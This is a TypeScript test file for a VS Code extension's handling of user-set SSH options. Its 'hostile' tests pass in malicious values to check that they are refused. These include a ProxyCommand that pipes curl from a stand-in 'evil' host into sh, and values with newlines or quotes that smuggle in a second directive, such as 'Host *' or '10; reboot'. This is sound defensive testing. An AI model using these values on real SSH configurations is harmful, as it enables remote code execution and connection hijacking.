import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { upsertHostBlock } from '../../../src/core/launch/sshConfig';
import { readSshOptions, renderSshOptions, sshOptionArgs } from '../../../src/core/launch/sshOptions';
import { SshOptionsFile } from '../../../src/core/launch/sshOptionsFile';

const ALIAS = 'remoteit-80-00-00-00-01-00-0a-c2';

describe('remoteit.ssh.options', () => {
  it('keeps the known options, in their canonical spelling, and renders one Host block', () => {
    const read = readSshOptions({ identityfile: '~/.ssh/id ed25519', UserKnownHostsFile: '/tmp/kh', StrictHostKeyChecking: 'accept-new', ConnectTimeout: 10 });
    assert.deepEqual(read.problems, []);
    assert.deepEqual(renderSshOptions(read.options, 'remoteit-*'), [
      'Host remoteit-*',
      '  IdentityFile "~/.ssh/id ed25519"',
      '  UserKnownHostsFile /tmp/kh',
      '  StrictHostKeyChecking accept-new',
      '  ConnectTimeout 10',
    ]);
    assert.deepEqual(sshOptionArgs(read.options).slice(0, 2), ['-o', 'IdentityFile=~/.ssh/id ed25519']);
  });

  it('hostile: options that run commands, read more config or redirect the connection are refused by name', () => {
    const read = readSshOptions({ ProxyCommand: 'sh -c "curl evil|sh"', LocalCommand: 'x', PermitLocalCommand: 'yes', Include: '/tmp/x', ProxyJump: 'evil', HostName: 'evil', Port: 22, 'Match exec': 'x', KnownHostsCommand: 'x' });
    assert.deepEqual(read.options, []);
    assert.equal(read.problems.length, 9);
    assert.ok(read.problems.every((p) => /is not an option this extension writes/.test(p)));
  });

  it('hostile: a value with a newline, a quote or of the wrong form is refused (no second directive can be smuggled in)', () => {
    const read = readSshOptions({
      IdentityFile: '/tmp/key\nProxyCommand sh',
      UserKnownHostsFile: '/tmp/kh" ProxyCommand="sh',
      StrictHostKeyChecking: 'no\nHost *',
      ConnectTimeout: '10; reboot',
      LogLevel: 3.5,
    });
    assert.deepEqual(read.options, []);
    assert.equal(read.problems.length, 5);
    assert.deepEqual(readSshOptions(['IdentityFile']).problems, ['remoteit.ssh.options must be an object of ssh option → value; it was ignored.']);
  });

  it('written beside the managed hosts, included from the user config: ssh applies them to each remote.it alias only', async function () {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sshopts-'));
    const userConfig = path.join(dir, 'config');
    fs.writeFileSync(userConfig, 'Host other\n  User me\n');
    const hostsFile = path.join(dir, 'remoteit', 'hosts');
    fs.mkdirSync(path.dirname(hostsFile));
    fs.writeFileSync(hostsFile, upsertHostBlock('', { alias: ALIAS, port: 33001, hostName: '127.0.0.1', user: 'pi' }));
    fs.writeFileSync(userConfig, `Include ${hostsFile}\n${fs.readFileSync(userConfig, 'utf8')}`);
    const file = new SshOptionsFile(path.join(dir, 'remoteit', 'options'), () => userConfig, path.join(dir, 'remoteit', 'hosts.lock'), dir);
    await file.write(readSshOptions({ IdentityFile: path.join(dir, 'key'), UserKnownHostsFile: path.join(dir, 'known_hosts'), StrictHostKeyChecking: 'accept-new' }).options);
    assert.match(fs.readFileSync(userConfig, 'utf8'), /^# remote\.it Connect for VS Code: your remoteit\.ssh\.options for its SSH hosts\nInclude .*options\n/);
    const effective = (alias: string) => execFileSync('ssh', ['-G', '-F', userConfig, alias], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
    const remote = effective(ALIAS);
    assert.match(remote, new RegExp(`^identityfile ${path.join(dir, 'key')}$`, 'm'));
    assert.match(remote, new RegExp(`^userknownhostsfile ${path.join(dir, 'known_hosts')}$`, 'm'));
    assert.match(remote, /^stricthostkeychecking accept-new$/m);
    assert.match(remote, /^port 33001$/m);
    assert.doesNotMatch(effective('other'), new RegExp(path.join(dir, 'known_hosts')));
    // Cleared: the Host block goes, the Include stays harmless.
    await file.write([]);
    assert.doesNotMatch(fs.readFileSync(path.join(dir, 'remoteit', 'options'), 'utf8'), /Host/);
    assert.doesNotMatch(effective(ALIAS), new RegExp(path.join(dir, 'known_hosts')));
    fs.rmSync(dir, { recursive: true, force: true });
  });
});
